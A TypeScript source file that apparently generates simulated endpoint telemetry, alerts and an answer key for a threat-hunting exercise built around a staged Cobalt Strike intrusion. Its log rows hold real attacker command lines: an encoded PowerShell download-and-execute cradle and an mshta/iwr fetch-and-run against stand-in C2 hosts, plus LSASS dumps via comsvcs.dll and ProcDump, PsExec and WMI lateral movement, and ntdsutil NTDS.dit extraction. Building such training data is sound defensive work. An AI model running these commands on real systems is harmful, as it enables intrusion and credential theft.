// The attack stories: a phishing document that drops an implant, credential dumping,
// lateral movement to the servers, Run-key persistence and beaconing to shared C2, on
// named machines across three device groups. Each story writes its own hunting rows,
// raises alerts whose evidence points at those rows, and records itself in the answer key.
import { Random } from '../prng';
import { DAY_MS, HOUR_MS, MINUTE_MS, formatTicks } from '../time';
import { domainOf } from './accounts';
import { BIN, IMPLANT, LURE_DOCUMENT, STORY_FILES, fullPath, hashesOf } from './binaries';
import { fileEvidence, ipEvidence, processEvidence, registryEvidence, urlEvidence, userEvidence } from './evidence';
import { STORY_MACHINES } from './machines';
import { type ProcessRef, fileEventRow, logonEventRow, networkEventRow, registryEventRow } from './rows';
import { type StoryBook, type StoryKey, StoryWriter, longLived, newKey, noteProcess } from './story-writer';
import type { MachineProfile } from './types';

export type { StoryBook, StoryEvent, StoryKey, StoryProcess } from './story-writer';

export const C2 = {
  primaryIp: '203.0.113.45',
  primaryDomain: 'update-telemetry-cdn.com',
  secondaryIp: '198.51.100.23',
  secondaryDomain: 'cdn-sync-telemetry.net',
  lureDomain: 'docs-invoice-share.com',
  payloadUrl: 'http://update-telemetry-cdn.com/dl/OneDriveUpdater.exe',
  stagerUrl: 'http://update-telemetry-cdn.com/a.ps1',
  htaUrl: 'http://docs-invoice-share.com/view/88213.hta',
} as const;

const RUN_KEY_SUFFIX = 'Software\\Microsoft\\Windows\\CurrentVersion\\Run';

/** Beacon from the implant to both C2 addresses every couple of hours until the anchor. */
function beacon(w: StoryWriter, key: StoryKey, profile: MachineProfile, implant: ProcessRef, fromMs: number, untilMs: number): void {
  const r = Random.of(w.seed, 'beacon', profile.index);
  for (let t = fromMs + 5 * MINUTE_MS; t < untilMs; t += 2 * HOUR_MS + r.int(-6, 6) * MINUTE_MS) {
    const secondary = r.chance(0.25);
    w.row('DeviceNetworkEvents', profile, networkEventRow(profile, implant, t, r.int(0, 9999), {
      actionType: 'ConnectionSuccess', remoteIp: secondary ? C2.secondaryIp : C2.primaryIp, remotePort: 443,
      remoteUrl: secondary ? C2.secondaryDomain : C2.primaryDomain, localPort: r.int(49_152, 65_000),
    }));
  }
  w.contacted(C2.primaryDomain, profile);
  w.contacted(C2.secondaryDomain, profile);
  const at = formatTicks(fromMs + 6 * MINUTE_MS);
  w.alert({
    profile, firstEventMs: fromMs + 5 * MINUTE_MS, lastEventMs: fromMs + 7 * MINUTE_MS, incidentId: 4127,
    title: 'Communication with a known command and control server',
    description: `A process on ${profile.shortName} connected to infrastructure associated with a Cobalt Strike command and control server.`,
    severity: 'High', category: 'CommandAndControl', detectionSource: 'WindowsDefenderAtp', mitreTechniques: ['T1071.001', 'T1573.002'],
    threatFamilyName: 'CobaltStrike', relatedUser: { userName: implant.accountName, domainName: implant.accountDomain.toUpperCase() },
    evidence: () => [processEvidence(at, implant, null), ipEvidence(at, C2.primaryIp), urlEvidence(at, C2.primaryDomain)],
  }, key);
}

/** The implant lands on a machine, runs, persists in the Run key and beacons. */
function implantLands(w: StoryWriter, keys: Record<string, StoryKey>, profile: MachineProfile, dropper: ProcessRef, atMs: number, untilMs: number, user: string): ProcessRef {
  const r = Random.of(w.seed, 'implant', profile.index);
  w.row('DeviceFileEvents', profile, fileEventRow(profile, dropper, atMs, r.int(0, 9999), {
    actionType: 'FileCreated', file: IMPLANT, originUrl: C2.payloadUrl, originIp: C2.primaryIp,
  }));
  w.contacted(C2.primaryDomain, profile);
  const implant = w.spawn(profile, dropper, IMPLANT, `"${fullPath(IMPLANT)}" -k netsvc`, atMs + 4000, user);
  noteProcess(keys.beaconing!, profile, implant);
  const malware = keys.maliciousFile!;
  const runKey = `HKEY_CURRENT_USER\\${user === 'system' ? 'S-1-5-18' : `S-1-5-21-3623811015-3361044348-30300820-${1100 + profile.index}`}\\${RUN_KEY_SUFFIX}`;
  w.row('DeviceRegistryEvents', profile, registryEventRow(profile, implant, atMs + 9000, r.int(0, 9999), {
    actionType: 'RegistryValueSet', key: runKey, valueName: 'OneDriveUpdate', valueType: 'String', valueData: `"${fullPath(IMPLANT)}" -k netsvc`,
  }));
  const persistence = keys.persistence!;
  persistence.registryKeys.push(runKey);
  noteProcess(persistence, profile, implant);
  const at = formatTicks(atMs + 60_000);
  w.alert({
    profile, firstEventMs: atMs, lastEventMs: atMs + 4000, incidentId: 4127,
    title: "'CobaltStrike' malware was detected", description: `Microsoft Defender Antivirus detected ${IMPLANT.fileName}, a Cobalt Strike beacon loader, on ${profile.shortName}.`,
    severity: 'High', category: 'Malware', detectionSource: 'WindowsDefenderAv', mitreTechniques: ['T1204.002'],
    threatFamilyName: 'CobaltStrike', threatName: 'Backdoor:Win64/CobaltStrike.NP!dha', relatedUser: { userName: user, domainName: domainOf(user, profile).toUpperCase() },
    evidence: () => [fileEvidence(at, IMPLANT), processEvidence(at, implant, dropper)],
  }, malware);
  w.alert({
    profile, firstEventMs: atMs + 9000, lastEventMs: atMs + 9000, incidentId: 4127,
    title: 'Anomaly detected in ASEP registry', description: `A process registered itself to start at every logon by writing the Run key on ${profile.shortName}.`,
    severity: 'Medium', category: 'Persistence', detectionSource: 'WindowsDefenderAtp', mitreTechniques: ['T1547.001'],
    relatedUser: { userName: user, domainName: domainOf(user, profile).toUpperCase() },
    evidence: () => [registryEvidence(at, runKey, 'OneDriveUpdate', `"${fullPath(IMPLANT)}" -k netsvc`), processEvidence(at, implant, dropper)],
  }, persistence);
  beacon(w, keys.beaconing!, profile, implant, atMs + 5000, untilMs);
  return implant;
}

export function writeStories(seed: number, fleet: readonly MachineProfile[], anchorMs: number, aadTenantId: string): StoryBook {
  const w = new StoryWriter(seed, aadTenantId);
  const m = (i: number): MachineProfile => {
    const p = fleet[i];
    if (!p) throw new Error(`story machine ${i} missing: the fleet needs at least ${Object.keys(STORY_MACHINES).length} machines`);
    return p;
  };
  const fin1 = m(STORY_MACHINES.financeVictim);
  const fin2 = m(STORY_MACHINES.financeSecond);
  const eng = m(STORY_MACHINES.engineeringBeacon);
  const fs = m(STORY_MACHINES.fileServer);
  const dc = m(STORY_MACHINES.dc);
  const day0 = anchorMs - 6 * DAY_MS;
  const until = anchorMs;
  const keys: Record<string, StoryKey> = {
    phishing: newKey('phishing', 'Phishing document spawns a script host that drops a Cobalt Strike loader'),
    credentialDumping: newKey('credential-dumping', 'LSASS memory dumped with comsvcs.dll MiniDump and ProcDump'),
    lateralMovement: newKey('lateral-movement', 'Lateral movement with PsExec and remote WMI to the file server and domain controller'),
    persistence: newKey('persistence', 'Run-key persistence for the implant'),
    beaconing: newKey('beaconing', 'Beaconing to shared C2 infrastructure from several machines'),
    maliciousFile: newKey('malicious-file', 'The same malicious SHA-1 on machines in three device groups'),
  };
  const phishing = keys.phishing!;

  // Finance victim 1: a macro document from Outlook launches PowerShell.
  const outlook1 = longLived(fin1, BIN.outlook, 7412, 'mchen', day0 + 8 * HOUR_MS, '"OUTLOOK.EXE" ', 'explorer.exe');
  const lureFolder = 'C:\\Users\\mchen\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q8ZJ2K1M';
  w.row('DeviceFileEvents', fin1, fileEventRow(fin1, outlook1, day0 + 9 * HOUR_MS + 11 * MINUTE_MS, 2211, { actionType: 'FileCreated', file: LURE_DOCUMENT, folderOverride: lureFolder }));
  const word = w.spawn(fin1, outlook1, BIN.winword, `"WINWORD.EXE" /n "${lureFolder}\\${LURE_DOCUMENT.fileName}" /o ""`, day0 + 9 * HOUR_MS + 12 * MINUTE_MS);
  const encoded = Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('${C2.stagerUrl}')`, 'utf16le').toString('base64');
  const ps = w.spawn(fin1, word, BIN.powershell, `powershell.exe -NoP -W Hidden -Exec Bypass -Enc ${encoded}`, day0 + 9 * HOUR_MS + 12 * MINUTE_MS + 41_000);
  w.row('DeviceNetworkEvents', fin1, networkEventRow(fin1, ps, ps.creationMs + 2000, 1187, { actionType: 'ConnectionSuccess', remoteIp: C2.primaryIp, remotePort: 80, remoteUrl: C2.primaryDomain, localPort: 51_233 }));
  w.row('DeviceFileEvents', fin1, fileEventRow(fin1, ps, ps.creationMs + 3000, 4410, { actionType: 'FileCreated', file: STORY_FILES.stager, originUrl: C2.stagerUrl, originIp: C2.primaryIp }));
  // The stager compiles its loader with Add-Type, which runs csc.exe on a file in AppData.
  const csc = w.spawn(fin1, ps, BIN.csc, '"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /noconfig /fullpaths @"C:\\Users\\mchen\\AppData\\Local\\Temp\\kq3vx1pd\\kq3vx1pd.cmdline"', ps.creationMs + 9000);
  noteProcess(phishing, fin1, word);
  noteProcess(phishing, fin1, ps);
  noteProcess(phishing, fin1, csc);
  let at = formatTicks(ps.creationMs + 90_000);
  w.alert({
    profile: fin1, firstEventMs: word.creationMs, lastEventMs: ps.creationMs, incidentId: 4127,
    title: 'Suspicious PowerShell command line launched by an Office application',
    description: 'An Office document launched PowerShell with an encoded command that downloads and runs a remote script, a common first step of a macro-based phishing attack.',
    severity: 'High', category: 'InitialAccess', detectionSource: 'WindowsDefenderAtp', mitreTechniques: ['T1566.001', 'T1204.002', 'T1059.001', 'T1027'],
    relatedUser: { userName: 'mchen', domainName: 'FABRIKAM' },
    comments: ['Escalated to incident response: the invoice came from an external sender and the host is beaconing. Isolating FIN-WS-001.'],
    evidence: () => [userEvidence(at, 'mchen', 'fabrikam'), processEvidence(at, word, outlook1, false), processEvidence(at, ps, word), fileEvidence(at, LURE_DOCUMENT, lureFolder), urlEvidence(at, C2.stagerUrl)],
  }, phishing);
  const implant1 = implantLands(w, keys, fin1, ps, ps.creationMs + 20_000, until, 'mchen');

  // Finance victim 2: a link in mail opens an HTA through mshta, which runs PowerShell.
  const outlook2 = longLived(fin2, BIN.outlook, 9120, 'jpatel', day0 + 8 * HOUR_MS, '"OUTLOOK.EXE" ', 'explorer.exe');
  const mshta = w.spawn(fin2, outlook2, BIN.mshta, `"mshta.exe" ${C2.htaUrl}`, day0 + 10 * HOUR_MS + 41 * MINUTE_MS);
  w.row('DeviceNetworkEvents', fin2, networkEventRow(fin2, mshta, mshta.creationMs + 800, 5012, { actionType: 'ConnectionSuccess', remoteIp: C2.secondaryIp, remotePort: 80, remoteUrl: C2.lureDomain, localPort: 50_122 }));
  w.contacted(C2.lureDomain, fin2);
  const ps2 = w.spawn(fin2, mshta, BIN.powershell, `powershell.exe -w hidden -c "iwr ${C2.payloadUrl} -OutFile C:\\Users\\Public\\Libraries\\OneDriveUpdater.exe; Start-Process C:\\Users\\Public\\Libraries\\OneDriveUpdater.exe"`, mshta.creationMs + 6000);
  noteProcess(phishing, fin2, mshta);
  noteProcess(phishing, fin2, ps2);
  at = formatTicks(ps2.creationMs + 80_000);
  w.alert({
    profile: fin2, firstEventMs: mshta.creationMs, lastEventMs: ps2.creationMs, incidentId: 4127,
    title: 'Suspicious mshta process execution',
    description: 'mshta.exe ran an HTML application from the internet and started PowerShell to download a file. Attackers use mshta to run script while evading application control.',
    severity: 'Medium', category: 'DefenseEvasion', detectionSource: 'WindowsDefenderAtp', mitreTechniques: ['T1218.005', 'T1566.002', 'T1059.001'],
    relatedUser: { userName: 'jpatel', domainName: 'FABRIKAM' },
    evidence: () => [userEvidence(at, 'jpatel', 'fabrikam'), processEvidence(at, mshta, outlook2), processEvidence(at, ps2, mshta), urlEvidence(at, C2.htaUrl), ipEvidence(at, C2.secondaryIp)],
  }, phishing);
  implantLands(w, keys, fin2, ps2, ps2.creationMs + 15_000, until, 'jpatel');

  // Engineering: the loader arrives through a browser download and is run by the user.
  const day2 = day0 + 2 * DAY_MS;
  const edge = longLived(eng, BIN.msedge, 11_032, 'spark', day2 + 8 * HOUR_MS, '"msedge.exe" --single-argument', 'explorer.exe');
  implantLands(w, keys, eng, edge, day2 + 14 * HOUR_MS + 3 * MINUTE_MS, until, 'spark');

  // Credential dumping on the first victim, the night after.
  const day1 = day0 + DAY_MS;
  const cred = keys.credentialDumping!;
  const cmd1 = w.spawn(fin1, implant1, BIN.cmd, 'cmd.exe /c tasklist /fi "imagename eq lsass.exe"', day1 + 2 * HOUR_MS + 14 * MINUTE_MS, 'system');
  const rundll = w.spawn(fin1, cmd1, BIN.rundll32, 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 716 C:\\Users\\Public\\Libraries\\lsass.dmp full', cmd1.creationMs + 30_000, 'system');
  w.row('DeviceFileEvents', fin1, fileEventRow(fin1, rundll, rundll.creationMs + 1500, 3321, { actionType: 'FileCreated', file: STORY_FILES.lsassDump }));
  noteProcess(cred, fin1, rundll);
  at = formatTicks(rundll.creationMs + 70_000);
  w.alert({
    profile: fin1, firstEventMs: rundll.creationMs, lastEventMs: rundll.creationMs + 1500, incidentId: 4127,
    title: 'Possible credential dumping using comsvcs.dll MiniDump',
    description: 'rundll32.exe called the MiniDump export of comsvcs.dll on the LSASS process. The dump can be used to extract credentials of every account signed in to the machine.',
    severity: 'High', category: 'CredentialAccess', detectionSource: 'WindowsDefenderAtp', mitreTechniques: ['T1003.001', 'T1218.011'],
    relatedUser: { userName: 'mchen', domainName: 'FABRIKAM' },
    evidence: () => [processEvidence(at, rundll, cmd1), fileEvidence(at, STORY_FILES.lsassDump), userEvidence(at, 'mchen', 'fabrikam')],
  }, cred);

  // Lateral movement with the stolen svc-backup credentials: PsExec to the file server.
  const lateral = keys.lateralMovement!;
  const psexec = w.spawn(fin1, cmd1, { ...BIN.psexec }, `PsExec64.exe \\\\srv-fs01 -accepteula -u fabrikam\\svc-backup -s cmd /c "C:\\Users\\Public\\Libraries\\OneDriveUpdater.exe -k netsvc"`, day1 + 3 * HOUR_MS + 2 * MINUTE_MS, 'system');
  w.row('DeviceNetworkEvents', fin1, networkEventRow(fin1, psexec, psexec.creationMs + 900, 7001, { actionType: 'ConnectionSuccess', remoteIp: fs.machine.lastIpAddress, remotePort: 445, localPort: 52_611 }));
  const svcLogon = (target: MachineProfile, source: MachineProfile, ms: number, ticks: number) => {
    const lsass = longLived(target, BIN.lsass, 716, 'system', ms - 20 * DAY_MS, 'lsass.exe', 'wininit.exe');
    w.row('DeviceLogonEvents', target, logonEventRow(target, lsass, ms, ticks, {
      actionType: 'LogonSuccess', logonType: 'Network', accountName: 'svc-backup', accountDomain: 'fabrikam', accountSid: 'S-1-5-21-3623811015-3361044348-30300820-4412',
      protocol: 'NTLM', isLocalAdmin: true, logonId: 0x3e7a21 + ticks, remoteDeviceName: source.machine.computerDnsName, remoteIp: source.machine.lastIpAddress, remotePort: 52_611,
    }));
  };
  svcLogon(fs, fin1, psexec.creationMs + 1200, 1204);
  const services = longLived(fs, BIN.services, 688, 'system', day1 - 12 * DAY_MS, 'services.exe', 'wininit.exe');
  const psexesvc = w.spawn(fs, services, BIN.psexesvc, 'C:\\Windows\\PSEXESVC.exe', psexec.creationMs + 2500, 'system');
  w.row('DeviceFileEvents', fs, fileEventRow(fs, longLived(fs, BIN.system, 4, 'system', day1 - 12 * DAY_MS, ''), psexec.creationMs + 1800, 1809, {
    actionType: 'FileCreated', file: IMPLANT, requestSourceIp: fin1.machine.lastIpAddress,
  }));
  const cmdFs = w.spawn(fs, psexesvc, BIN.cmd, 'cmd /c "C:\\Users\\Public\\Libraries\\OneDriveUpdater.exe -k netsvc"', psexesvc.creationMs + 600, 'system');
  noteProcess(lateral, fin1, psexec);
  noteProcess(lateral, fs, psexesvc);
  at = formatTicks(psexesvc.creationMs + 75_000);
  w.alert({
    profile: fs, firstEventMs: psexec.creationMs + 1200, lastEventMs: psexesvc.creationMs, incidentId: 4127,
    title: 'Lateral movement using PsExec', description: `PsExec created a service on ${fs.shortName} from ${fin1.shortName} using the svc-backup account, then ran a command through it.`,
    severity: 'High', category: 'LateralMovement', detectionSource: 'WindowsDefenderAtp', mitreTechniques: ['T1021.002', 'T1569.002', 'T1078.002'],
    relatedUser: { userName: 'svc-backup', domainName: 'FABRIKAM' },
    evidence: () => [userEvidence(at, 'svc-backup', 'fabrikam'), processEvidence(at, psexesvc, services), processEvidence(at, cmdFs, psexesvc), ipEvidence(at, fin1.machine.lastIpAddress)],
  }, lateral);
  const implantFs = implantLands(w, keys, fs, cmdFs, cmdFs.creationMs + 1000, until, 'system');

  // ProcDump against LSASS on the file server.
  const procdump = w.spawn(fs, implantFs, BIN.procdump, 'procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\fs01.dmp', day1 + 3 * HOUR_MS + 30 * MINUTE_MS, 'system');
  w.row('DeviceFileEvents', fs, fileEventRow(fs, procdump, procdump.creationMs + 4000, 2290, { actionType: 'FileCreated', file: STORY_FILES.fs01Dump }));
  noteProcess(cred, fs, procdump);
  at = formatTicks(procdump.creationMs + 50_000);
  w.alert({
    profile: fs, firstEventMs: procdump.creationMs, lastEventMs: procdump.creationMs + 4000, incidentId: 4127,
    title: 'LSASS process memory dumped with ProcDump', description: 'ProcDump wrote a full memory dump of the LSASS process to disk.',
    severity: 'High', category: 'CredentialAccess', detectionSource: 'WindowsDefenderAtp', mitreTechniques: ['T1003.001'],
    relatedUser: { userName: 'svc-backup', domainName: 'FABRIKAM' },
    evidence: () => [processEvidence(at, procdump, implantFs), fileEvidence(at, STORY_FILES.fs01Dump), fileEvidence(at, BIN.procdump)],
  }, cred);

  // Remote WMI from the file server to the domain controller, extracting NTDS.dit.
  const wmic = w.spawn(fs, implantFs, BIN.wmic, 'wmic /node:srv-dc01 /user:fabrikam\\svc-backup process call create "cmd.exe /c ntdsutil \\"ac i ntds\\" ifm \\"create full C:\\Windows\\Temp\\ntds\\" q q"', day1 + 3 * HOUR_MS + 40 * MINUTE_MS, 'system');
  w.row('DeviceNetworkEvents', fs, networkEventRow(fs, wmic, wmic.creationMs + 700, 6120, { actionType: 'ConnectionSuccess', remoteIp: dc.machine.lastIpAddress, remotePort: 135, localPort: 53_004 }));
  svcLogon(dc, fs, wmic.creationMs + 1100, 3307);
  const wmiprvse = longLived(dc, BIN.wmiprvse, 5220, 'network service', day1 - 3 * DAY_MS, 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', 'svchost.exe');
  const cmdDc = w.spawn(dc, wmiprvse, BIN.cmd, 'cmd.exe /c ntdsutil "ac i ntds" ifm "create full C:\\Windows\\Temp\\ntds" q q', wmic.creationMs + 1900, 'svc-backup');
  const ntds = w.spawn(dc, cmdDc, BIN.ntdsutil, 'ntdsutil  "ac i ntds" ifm "create full C:\\Windows\\Temp\\ntds" q q', cmdDc.creationMs + 300, 'svc-backup');
  noteProcess(lateral, fs, wmic);
  noteProcess(lateral, dc, cmdDc);
  noteProcess(cred, dc, ntds);
  at = formatTicks(ntds.creationMs + 60_000);
  w.alert({
    profile: dc, firstEventMs: wmic.creationMs + 1100, lastEventMs: cmdDc.creationMs, incidentId: 4127,
    title: 'Suspicious remote WMI execution', description: `A process was started on ${dc.shortName} through WMI from ${fs.shortName}.`,
    severity: 'High', category: 'LateralMovement', detectionSource: 'WindowsDefenderAtp', mitreTechniques: ['T1047', 'T1021.003'],
    relatedUser: { userName: 'svc-backup', domainName: 'FABRIKAM' },
    evidence: () => [userEvidence(at, 'svc-backup', 'fabrikam'), processEvidence(at, cmdDc, wmiprvse), ipEvidence(at, fs.machine.lastIpAddress)],
  }, lateral);
  w.alert({
    profile: dc, firstEventMs: ntds.creationMs, lastEventMs: ntds.creationMs, incidentId: 4127,
    title: 'Active Directory database (NTDS.dit) extraction attempt', description: 'ntdsutil created an install-from-media copy of the Active Directory database, which holds the password hashes of every domain account.',
    severity: 'High', category: 'CredentialAccess', detectionSource: 'WindowsDefenderAtp', mitreTechniques: ['T1003.003'],
    relatedUser: { userName: 'svc-backup', domainName: 'FABRIKAM' },
    evidence: () => [processEvidence(at, ntds, cmdDc), userEvidence(at, 'svc-backup', 'fabrikam')],
  }, cred);

  // Fill the answer key's indicators.
  const implantSha1 = hashesOf(IMPLANT).sha1;
  for (const key of Object.values(keys)) {
    if (key.id !== 'credential-dumping') key.sha1s.push(implantSha1);
  }
  phishing.sha1s.push(hashesOf(LURE_DOCUMENT).sha1);
  cred.sha1s.push(hashesOf(BIN.procdump).sha1, hashesOf(BIN.rundll32).sha1);
  phishing.urls.push(C2.stagerUrl, C2.htaUrl, C2.payloadUrl);
  phishing.domains.push(C2.primaryDomain, C2.lureDomain);
  phishing.ips.push(C2.primaryIp, C2.secondaryIp);
  phishing.accounts.push('mchen', 'jpatel');
  keys.beaconing!.ips.push(C2.primaryIp, C2.secondaryIp);
  keys.beaconing!.domains.push(C2.primaryDomain, C2.secondaryDomain);
  keys.beaconing!.urls.push(C2.primaryDomain);
  keys.beaconing!.accounts.push('mchen', 'jpatel', 'spark', 'system');
  keys.maliciousFile!.accounts.push('mchen', 'jpatel', 'spark', 'system');
  keys.persistence!.accounts.push('mchen', 'jpatel', 'spark', 'system');
  cred.accounts.push('mchen', 'svc-backup');
  lateral.accounts.push('svc-backup');
  lateral.ips.push(fin1.machine.lastIpAddress, fs.machine.lastIpAddress, dc.machine.lastIpAddress);

  // Story machines look the part in the machine list.
  for (const p of [fin1, fin2, eng, fs, dc]) {
    p.machine.riskScore = 'High';
    p.machine.healthStatus = 'Active';
  }
  return { events: w.events, alerts: w.alerts, stories: Object.values(keys), domainMachines: w.domainMachines };
}
